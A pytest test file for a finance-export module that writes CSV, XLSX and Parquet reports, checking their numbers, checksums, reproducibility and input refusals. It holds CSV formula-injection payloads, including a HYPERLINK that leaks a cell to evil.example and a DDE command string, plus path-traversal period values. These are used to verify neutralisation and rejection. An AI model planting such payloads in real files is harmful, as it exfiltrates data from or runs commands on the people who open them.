"""Finance exports over the built gold lake: the files hold gold's numbers (and the books'), they are read back
with real readers (csv, openpyxl, DuckDB), a re-export is byte-identical, and formula-like text is neutralised."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import dagster as dg
import duckdb
import pyarrow as pa
import pytest
from openpyxl import load_workbook

from retreasure.lake import Lake
from retreasure.serving.exports.finance import MANIFEST, FinanceExport, export_finance
from retreasure.serving.exports.writers import write_csv, write_parquet, write_xlsx
from retreasure.serving.reports import FINANCE, REPORTS, TAX, finance_report
from retreasure.settings import get_settings
from retreasure_sim.ledger import books
from retreasure_sim.model import Truth

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
KEYS = {"revenue": ["channel"], "margin": ["channel"], "tax": ["tax_party", "tax_country", "tax_region"]}


def _copy(gold_lake: tuple[Truth, Lake], where: Path) -> Lake:
    return Lake(shutil.copytree(gold_lake[1].uri, where / "lake"))


@pytest.fixture(scope="module")
def lake(gold_lake: tuple[Truth, Lake], tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """A private copy: exports write into the lake folder, and the session's gold lake is read-only."""
    return _copy(gold_lake, tmp_path_factory.mktemp("exports"))


@pytest.fixture(scope="module")
def period(lake: Lake) -> str:
    """The last month with sales in gold (the simulated business lives in one month)."""
    month = lake.query("SELECT max(month) AS m FROM gold.mart_finance").column("m")[0].as_py()
    return f"{month:%Y-%m}"


@pytest.fixture(scope="module")
def exported(lake: Lake, period: str, tmp_path_factory: pytest.TempPathFactory) -> FinanceExport:
    return export_finance(lake, period, tmp_path_factory.mktemp("out"))


def _gold(lake: Lake, report: str, period: str) -> dict[tuple[Any, ...], dict[str, Any]]:
    """The report's rows straight from the gold table, keyed: written apart from serving/reports.py."""
    table = "gold.mart_tax_liability" if report == "tax" else "gold.mart_finance"
    rows = lake.query(f"SELECT * FROM {table} WHERE strftime(month, '%Y-%m') = $p", params={"p": period})
    return {_key(r, KEYS[report]): r for r in rows.to_pylist()}


def _key(row: dict[str, Any], keys: list[str]) -> tuple[str, ...]:
    # A CSV field or a spreadsheet cell cannot tell an empty text (a region outside the US) from a missing one.
    return tuple(row[k] or "" for k in keys)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _xlsx_rows(path: Path) -> tuple[list[str], list[list[Any]]]:
    sheet = load_workbook(path).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    return [c.value for c in rows[0]], rows[1:]


def _file(export: FinanceExport, report: str, fmt: str) -> Path:
    return export.folder / next(f["name"] for f in export.files if f["report"] == report and f["format"] == fmt)


# -- the numbers -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("report", REPORTS)
def test_every_file_holds_gold_numbers(lake: Lake, period: str, exported: FinanceExport, report: str) -> None:
    gold = _gold(lake, report, period)
    assert gold, "the period has rows in gold"
    columns = finance_report(lake, report, period).column_names
    keys, amounts = KEYS[report], [c for c in columns if c not in KEYS[report]]

    from_csv = _csv_rows(_file(exported, report, "csv"))
    assert len(from_csv) == len(gold)
    for row in from_csv:
        expected = gold[_key(row, keys)]
        for column in amounts:
            assert Decimal(row[column]) == expected[column], (report, column)
            if isinstance(expected[column], Decimal):  # fixed scale: "0.00", never "0" or "1E+1"
                assert len(row[column].partition(".")[2]) == -expected[column].as_tuple().exponent

    header, cells = _xlsx_rows(_file(exported, report, "xlsx"))
    assert header == columns and len(cells) == len(gold)
    for line in cells:
        values = dict(zip(header, line, strict=True))
        expected = gold[_key({k: values[k].value for k in keys}, keys)]
        for column in amounts:
            cell = values[column]
            assert cell.data_type == "n" and Decimal(str(cell.value)) == expected[column], (report, column)
        assert all(values[k].data_type == "s" for k in keys if values[k].value is not None)

    parquet = str(_file(exported, report, "parquet"))
    read = duckdb.sql(f"SELECT * FROM read_parquet('{parquet}')").fetch_arrow_table()
    assert read.column_names == columns and read.num_rows == len(gold)
    for row in read.to_pylist():
        expected = gold[_key(row, keys)]
        assert {c: row[c] for c in amounts} == {c: expected[c] for c in amounts}
    assert all(pa.types.is_decimal(f.type) for f in read.schema if f.name in amounts and f.name != "orders")


def test_the_files_agree_with_the_simulators_books(gold_lake: tuple[Truth, Lake], exported: FinanceExport) -> None:
    truth = books(gold_lake[0])  # the whole simulated business falls in the exported month
    revenue = _csv_rows(_file(exported, "revenue", "csv"))
    assert {r["channel"]: int(r["orders"]) for r in revenue} == dict(truth.orders_by_channel)
    for column, expected in (
        ("gross_sales", truth.gross),
        ("discounts", truth.discounts),
        ("refunds", truth.refunds),
        ("net_revenue", truth.net_revenue),
    ):
        assert sum(Decimal(r[column]) for r in revenue) == expected, column
        assert Decimal(exported.manifest["totals"]["revenue"][column]) == expected, column
    tax: dict[str, Decimal] = defaultdict(Decimal)
    for row in _csv_rows(_file(exported, "tax", "csv")):
        tax[row["tax_party"]] += Decimal(row["tax_liability"])
    assert dict(tax) == dict(truth.tax_by_party)


def test_margin_is_net_revenue_less_cost_of_goods(exported: FinanceExport) -> None:
    margin = _csv_rows(_file(exported, "margin", "csv"))
    revenue = {r["channel"]: r for r in _csv_rows(_file(exported, "revenue", "csv"))}
    assert {r["channel"] for r in margin} == set(revenue)
    for row in margin:
        net, cost, gross_margin = (Decimal(row[c]) for c in ("net_revenue", "cost_of_goods", "gross_margin"))
        assert net == Decimal(revenue[row["channel"]]["net_revenue"])
        assert cost > 0 and gross_margin == net - cost
        pct = (100 * gross_margin / net).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
        assert Decimal(row["gross_margin_pct"]) == pct
    totals = exported.manifest["totals"]["margin"]
    assert "gross_margin_pct" not in totals  # a ratio is not summed
    assert Decimal(totals["gross_margin"]) == sum(Decimal(r["gross_margin"]) for r in margin)


# -- the manifest and re-exports -------------------------------------------------------------------------------
def test_manifest_lists_every_file_with_its_checksum(lake: Lake, exported: FinanceExport, period: str) -> None:
    manifest = json.loads((exported.folder / MANIFEST).read_text())
    assert manifest == exported.manifest
    assert manifest["period"] == period and manifest["closed"] is True and "generated_at" not in manifest
    assert {(f["report"], f["format"]) for f in manifest["files"]} == {
        (r, f) for r in REPORTS for f in ("csv", "xlsx", "parquet")
    }
    on_disk = sorted(p.name for p in exported.folder.iterdir())
    assert on_disk == sorted([MANIFEST, *(f["name"] for f in manifest["files"])])
    for entry in manifest["files"]:
        data = (exported.folder / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"] and len(data) == entry["bytes"]
        assert entry["rows"] == len(_gold(lake, entry["report"], period))
    assert manifest["generated_from"] == sorted([str(FINANCE), str(TAX)])


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_a_closed_period_exports_to_identical_bytes(lake: Lake, period: str, tmp_path: Path) -> None:
    first = export_finance(lake, period, tmp_path)
    before = _snapshot(first.folder)
    again = export_finance(lake, period, tmp_path)
    assert _snapshot(again.folder) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [period]  # no hidden partial or old folder is left
    # No clock in the workbooks (two runs in the same 2 s of a zip date would hide one): the month's end.
    first_day = date.fromisoformat(f"{period}-01")
    end = datetime.combine((first_day + timedelta(days=32)).replace(day=1) - timedelta(days=1), datetime.max.time())
    end = end.replace(microsecond=0)
    for name in (n for n in before if n.endswith(".xlsx")):
        properties = load_workbook(again.folder / name).properties
        assert (properties.created, properties.modified) == (end, end)
        with zipfile.ZipFile(again.folder / name) as archive:
            assert {i.date_time for i in archive.infolist()} == {(*end.timetuple()[:5], 58)}

    # gold rewritten with the same numbers (as every nightly build does): the same bytes, manifest included.
    version = lake.delta(FINANCE).version()
    lake.overwrite(FINANCE, lake.query(f"SELECT * FROM {FINANCE}", [FINANCE]))
    assert lake.delta(FINANCE).version() == version + 1
    assert _snapshot(export_finance(lake, period, tmp_path).folder) == before


def test_a_failed_export_leaves_the_previous_export_whole(
    gold_lake: tuple[Truth, Lake], period: str, tmp_path: Path
) -> None:
    own = _copy(gold_lake, tmp_path)
    out = tmp_path / "out"
    before = _snapshot(export_finance(own, period, out).folder)
    # The tax table's data files vanish: revenue and margin are written before the tax report fails.
    for parquet in Path(own.table_uri(TAX)).rglob("*.parquet"):
        parquet.unlink()
    # The error names the missing file (local lakes read the snapshot's files) or says it is missing.
    with pytest.raises(Exception, match=r"(?i)no such file|not found|does not exist|mart_tax_liability/part-"):
        export_finance(own, period, out)
    assert _snapshot(out / period) == before
    assert sorted(p.name for p in out.iterdir()) == [period]


# -- neutralisation --------------------------------------------------------------------------------------------
def _crafted() -> pa.Table:
    n = len(HOSTILE) + 2
    return pa.table(
        {
            "tax_region": [*HOSTILE, 'plain, with "quotes"', "Île-de-France"],
            "amount": pa.array([Decimal("-12.50")] * n, pa.decimal128(18, 2)),
            "orders": pa.array([-3] * n, pa.int32()),
        }
    )


def test_formula_like_text_is_neutralised_in_csv_and_xlsx_and_numbers_are_not(tmp_path: Path) -> None:
    table = _crafted()
    write_csv(table, tmp_path / "r.csv")
    write_xlsx(table, tmp_path / "r.xlsx", datetime(2025, 3, 31, 23, 59, 59), sheet="tax")
    write_parquet(table, tmp_path / "r.parquet")
    texts = table.column("tax_region").to_pylist()
    expected = [("'" + t if t in HOSTILE else t) for t in texts]

    rows = _csv_rows(tmp_path / "r.csv")
    assert [r["tax_region"] for r in rows] == expected
    assert {(r["amount"], r["orders"]) for r in rows} == {("-12.50", "-3")}

    _, cells = _xlsx_rows(tmp_path / "r.xlsx")
    for (region, amount, orders), text in zip(cells, expected, strict=True):
        assert region.data_type == "s" and region.value[0] == text[0]
        # XML carries a carriage return as a line feed: the cell is otherwise the text as written.
        assert region.value.replace("\n", "\r") == text.replace("\n", "\r")
        assert (amount.data_type, amount.value, orders.data_type, orders.value) == ("n", -12.5, "n", -3)
        assert amount.number_format == "#,##0.00"

    # Parquet is for programs: its values stay as they came.
    raw = duckdb.sql(f"SELECT tax_region FROM read_parquet('{tmp_path / 'r.parquet'}')").fetchall()
    assert [r[0] for r in raw] == texts


def test_a_hostile_region_from_a_source_is_neutralised_in_the_tax_files(
    gold_lake: tuple[Truth, Lake], period: str, tmp_path: Path
) -> None:
    own = _copy(gold_lake, tmp_path)
    template = (
        "SELECT * REPLACE ($region AS tax_region) FROM gold.mart_tax_liability WHERE tax_party = 'seller' LIMIT 1"
    )
    schema = own.dataset(TAX).schema
    for region in HOSTILE[:4]:
        own.append(TAX, own.query(template, [TAX], {"region": region}).cast(schema))
    export = export_finance(own, period, tmp_path / "out")

    regions = {r["tax_region"] for r in _csv_rows(_file(export, "tax", "csv"))}
    assert {"'" + h for h in HOSTILE[:4]} <= regions and not regions & set(HOSTILE)
    _, cells = _xlsx_rows(_file(export, "tax", "xlsx"))
    hostile = [line[2] for line in cells if line[2].value and line[2].value.startswith("'")]
    assert sorted(c.value for c in hostile) == sorted("'" + h for h in HOSTILE[:4])
    assert all(c.data_type == "s" for c in hostile)


# -- refusals --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["2025-13", "../x", "2025-1", "2025-00", "25-03", "2025-03/../..", "", "2025-03\n"])
def test_a_bad_period_is_refused_before_it_becomes_a_path(lake: Lake, bad: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="invalid period"):
        export_finance(lake, bad, tmp_path / "out")
    with pytest.raises(ValueError, match="invalid period"):
        finance_report(lake, "revenue", bad)
    assert not (tmp_path / "out").exists()


def test_an_unknown_report_is_refused(lake: Lake, period: str) -> None:
    with pytest.raises(ValueError, match="unknown report"):
        finance_report(lake, "payroll", period)


def test_an_open_period_is_refused_unless_allowed(lake: Lake, period: str, tmp_path: Path) -> None:
    first = date.fromisoformat(f"{period}-01")
    after = (first + timedelta(days=32)).replace(day=1)
    following = f"{after:%Y-%m}"
    with pytest.raises(ValueError, match="after the last month with data"):
        export_finance(lake, following, tmp_path)
    with pytest.raises(ValueError, match="not over yet"):
        export_finance(lake, period, tmp_path, today=first + timedelta(days=3))
    assert list(tmp_path.iterdir()) == []

    provisional = export_finance(lake, following, tmp_path, allow_open=True)
    assert provisional.manifest["closed"] is False and "generated_at" in provisional.manifest
    assert all(f["rows"] == 0 for f in provisional.files)
    assert _csv_rows(_file(provisional, "revenue", "csv")) == []


def test_a_remote_lake_or_destination_is_refused(period: str, lake: Lake, tmp_path: Path) -> None:
    remote = Lake("abfss://lake@account.dfs.core.windows.net/retreasure")
    with pytest.raises(ValueError, match="remote: pass --out"):
        export_finance(remote, period)
    with pytest.raises(ValueError, match="local folder"):
        export_finance(lake, period, "az://exports/finance")


# -- the command and the schedule ------------------------------------------------------------------------------
def _retreasure(lake: Lake, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("RETREASURE_")}
    env |= {"RETREASURE_LAKE_URI": lake.uri, "COLUMNS": "200"}
    cmd = [sys.executable, "-m", "retreasure", "export", "finance", *args]
    return subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True, timeout=300, check=False)


def test_the_command_exports_into_the_lake_and_refuses_bad_periods(
    lake: Lake, period: str, exported: FinanceExport, tmp_path: Path
) -> None:
    done = _retreasure(lake, tmp_path, "--period", period)
    assert done.returncode == 0, done.stderr
    folder = Path(lake.uri) / "exports" / "finance" / period
    manifest = json.loads((folder / MANIFEST).read_text())
    for entry in manifest["files"]:
        assert entry["name"] in done.stdout
        assert (folder / entry["name"]).read_bytes() == (exported.folder / entry["name"]).read_bytes()
    tax_rows = next(f["rows"] for f in manifest["files"] if f["report"] == "tax")
    assert any(entry["name"].startswith("tax_") and str(tax_rows) in line for line in done.stdout.splitlines())

    refused = _retreasure(lake, tmp_path, "--period", "../x")
    assert refused.returncode == 2 and "invalid period" in refused.stdout


@pytest.fixture
def dagster_env(lake: Lake, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Lake]:
    monkeypatch.chdir(tmp_path)  # no .env of the working tree
    monkeypatch.delenv("DAGSTER_HOME", raising=False)
    for name in [n for n in os.environ if n.startswith("RETREASURE_")]:
        monkeypatch.delenv(name)  # no alert channel, no other lake
    monkeypatch.setenv("RETREASURE_LAKE_URI", lake.uri)
    get_settings.cache_clear()
    yield lake
    get_settings.cache_clear()


def test_the_monthly_schedule_exports_the_month_just_closed(dagster_env: Lake, period: str) -> None:
    from retreasure.pipeline.definitions import defs
    from retreasure.pipeline.exports import EXPORT_JOB, EXPORT_OP
    from retreasure.pipeline.incidents import incidents

    dg.Definitions.validate_loadable(defs)
    schedule = defs.resolve_schedule_def(f"{EXPORT_JOB}_schedule")
    assert schedule.cron_schedule == "0 6 2 * *" and schedule.execution_timezone == "UTC"
    after = (date.fromisoformat(f"{period}-01") + timedelta(days=32)).replace(day=2)
    when = datetime(after.year, after.month, 2, 6, 0, tzinfo=UTC)
    request = schedule(dg.build_schedule_context(scheduled_execution_time=when))
    assert isinstance(request, dg.RunRequest)
    january = schedule(dg.build_schedule_context(scheduled_execution_time=datetime(2026, 1, 2, 6, tzinfo=UTC)))
    assert isinstance(january, dg.RunRequest) and "2025-12" in json.dumps(january.run_config)

    folder = Path(dagster_env.uri) / "exports" / "finance" / period
    shutil.rmtree(folder, ignore_errors=True)
    result = defs.resolve_job_def(EXPORT_JOB).execute_in_process(run_config=request.run_config)
    assert result.success
    manifest = json.loads((folder / MANIFEST).read_text())
    assert manifest["period"] == period and len(manifest["files"]) == 3 * len(REPORTS)

    # A month that can never pass fails at once (no retries) and opens an incident.
    refused = {"ops": {EXPORT_OP: {"config": {"period": "2025-13"}}}}
    failed = defs.resolve_job_def(EXPORT_JOB).execute_in_process(run_config=refused, raise_on_error=False)
    assert not failed.success
    assert not [e for e in failed.all_events if e.event_type_value == "STEP_UP_FOR_RETRY"]
    opened = [i for i in incidents(dagster_env, "open") if i["asset"] == "exports.finance"]
    assert [(i["partition"], i["occurrences"]) for i in opened] == [("2025-13", 1)]
    assert "invalid period" in opened[0]["error"]
